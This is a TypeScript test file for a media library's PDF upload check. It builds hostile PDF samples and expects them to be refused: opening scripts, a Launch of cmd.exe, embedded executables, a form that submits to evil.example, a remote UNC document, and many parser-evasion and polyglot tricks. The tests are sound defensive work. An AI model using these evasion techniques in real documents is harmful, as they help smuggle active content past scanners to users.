import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { getDocumentProxy } from 'unpdf';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { createMediaLibrary } from '#domain/media';
import { aLibrary, aPhoto, bodyOf, bytesIn, namesIn, refused, type TestLibrary } from './media.fixture.ts';
import { aPackedReport, aReport, packedByRows, packedTwice, pdfOf, pdfStream } from './pdf.fixture.ts';

vi.setConfig({ testTimeout: 30_000 });

let kept: TestLibrary;

beforeAll(() => {
  kept = aLibrary({ idleMs: 2_000 });
});
afterAll(() => kept.close());

const takeIn = (bytes: Uint8Array) => kept.library.takeInDocument(bodyOf(bytes, 65_536));

/** As a word processor writes it: pictures, links, packed objects. */
async function writtenReport(): Promise<Buffer> {
  const document = new PDFDocument({ info: { Title: 'Informe 2026' } });
  const photo = await aPhoto(400, 300).jpeg().toBuffer();
  document
    .text('Javascript y formularios son palabras.', { link: 'https://multipartes.example' })
    .image(photo);
  document.addPage().text('Segunda hoja');
  document.end();
  const pieces: Buffer[] = [];
  for await (const piece of document) pieces.push(piece as Buffer);
  return Buffer.concat(pieces);
}

const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
const launch = '<< /S /Launch /F (cmd.exe) >>';
const withFirstLine = (line: string) =>
  Buffer.from(aReport().toString('latin1').replace('%PDF-1.7', line), 'latin1');
const packedObjects = (text: string, how = '') =>
  pdfStream(`/Type /ObjStm /N 1 /First 4 ${how}`, `7 0 ${text}`);

describe('a report', () => {
  test('is kept as it came, under its own hash, and everybody may have it', async () => {
    for (const bytes of [
      aReport(),
      await writtenReport(),
      aReport('', [packedObjects('<< /Type /Font >>')]),
      aPackedReport({ packed: ['<< /Type /Font >>', '<< /Type /Outlines /First 8 0 R >>'] }),
    ]) {
      const document = await takeIn(bytes);
      expect(document).toEqual({
        hash: createHash('sha256').update(bytes).digest('hex'),
        bytes: bytes.byteLength,
      });
      expect(await bytesIn(kept.storage, `${document.hash}.pdf`)).toEqual(bytes);
      expect((await kept.library.open(`${document.hash}.pdf`))?.bytes).toBe(bytes.byteLength);
      expect(await takeIn(bytes)).toEqual(document);
    }
    expect(await namesIn(kept.storage)).toHaveLength(4);
  });

  test('of today opens in a reader, with what is packed in it', async () => {
    const bytes = aPackedReport({ catalog: '/OpenAction 7 0 R', packed: [script] });
    const document = await getDocumentProxy(new Uint8Array(bytes));
    expect([document.numPages, await document.getJSActions()]).toEqual([1, { OpenAction: ['app.alert(1)'] }]);
    for (const packing of [packedByRows, packedTwice]) {
      const hidden = aPackedReport({ catalog: '/OpenAction 7 0 R', packed: [script], packing });
      const opened = await getDocumentProxy(new Uint8Array(hidden));
      expect(await opened.getJSActions()).toEqual({ OpenAction: ['app.alert(1)'] });
    }
  });

  test.each([
    ['a script when it is opened', aReport(`/OpenAction ${script}`)],
    ['a script in another object', aReport('/OpenAction 5 0 R', [script])],
    ['a script whose name is written in escapes', aReport('/OpenAction << /S /J#61vaScrip#74 /JS (1) >>')],
    ['a script among packed objects', aReport('/OpenAction 7 0 R', [packedObjects(script)])],
    ['a packed script with an escaped name', aReport('', [packedObjects('<< /S /Java#53cript >>')])],
    [
      'packed objects that say they are something else',
      aReport('', [pdfStream('/Type /XObject', `7 0 ${script}`)]),
    ],
    [
      'packed objects behind words that look like a stream',
      aReport('', [packedObjects(script, `/X (stream\n${deflateSync('nada').toString('latin1')}endstream)`)]),
    ],
    ['a program to start', aReport('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    ['a file inside', aReport('/Names << /EmbeddedFiles 5 0 R >>', [pdfStream('/Type /EmbeddedFile', 'MZ')])],
    ['a form that sends', aReport('/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>')],
    ['a form of the other kind', aReport('/AcroForm << /XFA [(a) 5 0 R] >>')],
    ['a form of the other kind, behind a NUL', aReport('/AcroForm << /XFA\0[(a) 5 0 R] >>')],
    ['a form of the other kind, behind a comment', aReport('/AcroForm << /XFA%c\n5 0 R >>')],
    ['a form of the other kind, packed', aPackedReport({ packed: ['<< /XFA%c\n5 0 R >>'] })],
    ['a film', aReport('', ['<< /Subtype /RichMedia >>'])],
    ['another document to open', aReport('/OpenAction << /S /GoToR /F (\\\\evil.example\\x.pdf) >>')],
    [
      'a file pinned to a page',
      aReport('', ['<< /Subtype /FileAttachment /FS 6 0 R >>', '<< /F (a.exe) /EF << /F 7 0 R >> >>']),
    ],
    ['a file that nothing calls one', aReport('/AF [5 0 R]', ['<< /F (a.exe) /EF << /F 6 0 R >> >>'])],
    ['a file, in an object without its number', aReport('', ['null\nendobj\n5 0%c\nobj\n<< /#45F 7 0 R >>'])],
    ['a file, where only a reader that is sent there looks', aReport('/X (5 0 obj << /EF 6 0 R >> endobj)')],
    ['a file, packed', aPackedReport({ packed: ['<< /F (a.exe) /EF << /F 5 0 R >> >>'] })],
    [
      'a script among packed objects that end their line as old programs do',
      aPackedReport({ catalog: '/OpenAction 7 0 R', packed: [script], keyword: 'stream\r' }),
    ],
    [
      'a script among packed objects behind a blank',
      aPackedReport({ catalog: '/OpenAction 7 0 R', packed: [script], keyword: 'stream \n' }),
    ],
  ])('with %s is refused', async (_what, bytes) => {
    await expect(takeIn(bytes)).rejects.toEqual(refused('media.document_active'));
  });

  test('with a password cannot be looked into', async () => {
    await expect(takeIn(aReport('', [], '/Encrypt 9 0 R'))).rejects.toEqual(refused('media.document_locked'));
  });

  test.each([
    ['cut short', aReport().subarray(0, 300)],
    ['of first bytes only', Buffer.from('%PDF-1.7\nhola')],
    [
      'with an archive behind it',
      Buffer.concat([aReport(), Buffer.from('PK\x03\x04program'.padEnd(64, 'x'))]),
    ],
    ['with a web page behind it', Buffer.concat([aReport(), Buffer.from('<script>1</script>')])],
    [
      'whose objects are packed in a way nobody uses',
      aReport('', ['<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n789c>\nendstream']),
    ],
    ['whose objects are packed twice', aPackedReport({ packed: [script], packing: packedTwice })],
    ['whose objects are packed by rows', aPackedReport({ packed: [script], packing: packedByRows })],
    [
      'whose objects are packed by rows and say nothing of it',
      aPackedReport({ packed: [launch], packing: packedByRows, about: '/Type /XObject /Subtype /Image' }),
    ],
    [
      'whose objects are packed by rows behind words that look like an end',
      aPackedReport({ packed: [launch], packing: packedByRows, about: '/X (>> endobj 9 0 obj <<)' }),
    ],
    [
      'whose objects are packed in another way by a short name',
      aPackedReport({ packed: [script], packing: packedTwice, about: '/F [/Fl /Fl]' }),
    ],
    [
      'whose brackets do not pair, so that readers see other ends',
      aPackedReport({ packed: [launch], packing: packedByRows, about: '/A [ >> stream\n ]' }),
    ],
    ['whose array does not end', aReport('', ['[ << /A [ >> endobj << /EF 6 0 R >>'])],
    ['whose objects begin after more words', aPackedReport({ packed: [script], keyword: 'stream x\n' })],
    ['whose objects are not packed', aReport('', ['<< /N 1 /First 4 >>\nstream\n7 0 null\nendstream'])],
    ['with a web page in its first line', withFirstLine('%PDF-1.7 <html><script>1</script><!--')],
    ['with a web page in its first line behind a tab', withFirstLine('%PDF-1.7\t<script>')],
    [
      'whose objects do not unpack',
      aReport('', ['<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n\x78\x9cnada\nendstream']),
    ],
    [
      'whose objects unpack to more than anybody writes',
      aReport('', [packedObjects(' '.repeat(65 * 1_048_576))]),
    ],
  ])('%s is refused', async (_what, bytes) => {
    await expect(takeIn(bytes)).rejects.toEqual(refused('media.document_unreadable'));
  });

  test.each([
    ['nothing', Buffer.alloc(0)],
    ['a photograph', Buffer.from('\xff\xd8\xff\xe0', 'latin1')],
    ['a web page that says PDF later', Buffer.from('<!doctype html>%PDF-1.7')],
    ['a PDF behind other bytes', Buffer.concat([Buffer.from('GIF89a'), aReport()])],
    ['a program', Buffer.from('MZ\x90\0')],
  ])('is not %s', async (_what, bytes) => {
    await expect(takeIn(bytes)).rejects.toEqual(refused('media.not_a_document'));
  });

  test('has a size, and one at a time is enough', async () => {
    const { storage, decoder } = kept;
    const strict = createMediaLibrary({ storage, decoder, limits: { maxBytes: 65_536 } });
    const heavy = pdfOf([pdfStream('', Buffer.alloc(70_000, 7), false)]);
    await expect(strict.takeInDocument(bodyOf(heavy))).rejects.toEqual(refused('media.document_too_large'));
    const first = strict.takeInDocument(bodyOf(aReport()));
    await expect(strict.takeInDocument(bodyOf(aReport()))).rejects.toEqual(refused('media.busy'));
    await first;
    await strict.takeInDocument(bodyOf(aReport()));
  });

  test('that takes long is refused, and the photograph behind it is taken in', async () => {
    const hurried = aLibrary({ documentDeadlineMs: 1 });
    try {
      const bytes = await aPhoto(400, 300).jpeg().toBuffer();
      const [document, photo] = await Promise.allSettled([
        hurried.library.takeInDocument(bodyOf(aReport())),
        hurried.library.takeIn(bodyOf(bytes)),
      ]);
      expect(document).toEqual({ status: 'rejected', reason: refused('media.document_unreadable') });
      expect(photo).toMatchObject({ status: 'fulfilled', value: { width: 400, height: 300 } });
    } finally {
      await hurried.close();
    }
  });
});
